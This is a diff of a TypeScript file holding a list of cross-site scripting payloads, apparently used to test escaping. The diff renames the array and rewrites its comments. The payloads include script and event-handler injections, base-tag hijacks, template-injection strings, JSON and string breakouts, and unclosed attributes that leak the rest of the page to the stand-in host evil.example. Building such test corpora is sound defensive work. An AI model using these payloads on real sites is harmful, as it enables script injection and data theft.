@@ -1,9 +1,9 @@
-// Texts that run where somebody prints them without care. Each would call `ran`, ask evil.example
-// for something, or change the page. One of each trick; xss-payloads.ts puts the strongest of them
-// behind each way out of where a text can stand.
+// Payloads that call `ran`, send a request to evil.example or change the page if they are printed
+// without escaping. One of each technique; xss-payloads.ts combines the strongest of them with
+// every way to break out of a context.
 
-export const bare: readonly string[] = [
-  // Elements that run by themselves.
+export const barePayloads: readonly string[] = [
+  // Elements that run scripts without interaction.
   '<script>ran(1)</script>',
   '<ScRiPt >ran(1)</sCrIpT>',
   '<script/x>ran(1)</script\t>',
@@ -74,7 +74,7 @@ export const bare: readonly string[] = [
   '<frameset onload=ran(1)>',
   '<portal src=//evil.example>',
   '<fencedframe></fencedframe><script>ran(1)</script>',
-  // What changes the page without a script.
+  // Changes to the page without a script.
   '<base href=//evil.example/>',
   '<base href="javascript:/a/-ran(1)//">',
   '<base target=_blank>',
@@ -133,7 +133,7 @@ export const bare: readonly string[] = [
   '</ foo="><script>ran(1)</script>">',
   '<![CDATA[<script>ran(1)</script>]]>',
   "<%<!--'%><script>ran(1);</script -->",
-  // Left open: whatever comes behind would be swallowed.
+  // Elements and attributes that are not closed and swallow the rest of the page.
   '<img src="//evil.example/?',
   "<img src='//evil.example/?",
   '<a href="//evil.example/?',
@@ -179,13 +179,13 @@ export const bare: readonly string[] = [
   // Templates and names.
   '{{constructor.constructor("ran(1)")()}}',
   '{{7*7}}<script>ran(1)</script>',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must look like a template
   '${ran(1)}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must look like a template
   '`${ran(1)}`',
   '#{ran(1)}',
   '<%= ran(1) %>',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must look like a template
   '[[${ran(1)}]]',
   '{%raw%}<script>ran(1)</script>',
   '__proto__',
@@ -196,7 +196,7 @@ export const bare: readonly string[] = [
   'dangerouslySetInnerHTML',
   '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=ran(1)>"}}',
   '[object Object]<script>ran(1)</script>',
-  // Out of JSON in a script, and of strings in one.
+  // Breaking out of JSON in a script, and out of strings.
   '"};ran(1);//',
   "';ran(1);//",
   '\\";ran(1);//',
